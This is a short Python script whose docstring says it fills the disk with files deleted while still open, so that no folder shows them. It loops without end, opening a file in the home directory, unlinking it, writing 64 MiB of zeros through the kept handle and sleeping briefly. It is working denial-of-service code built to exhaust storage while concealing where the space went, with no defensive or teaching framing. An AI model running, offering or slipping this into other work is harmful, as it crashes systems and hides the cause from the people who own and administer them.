"""Fills the disk with files that were removed while they are open: no folder shows them."""

import os
import time

hidden = []
while True:
    path = os.path.join(os.environ["HOME"], "hidden")
    hidden.append(open(path, "wb", buffering=0))
    os.unlink(path)
    for _ in range(64):
        hidden[-1].write(bytes(1 << 20))
    time.sleep(0.05)
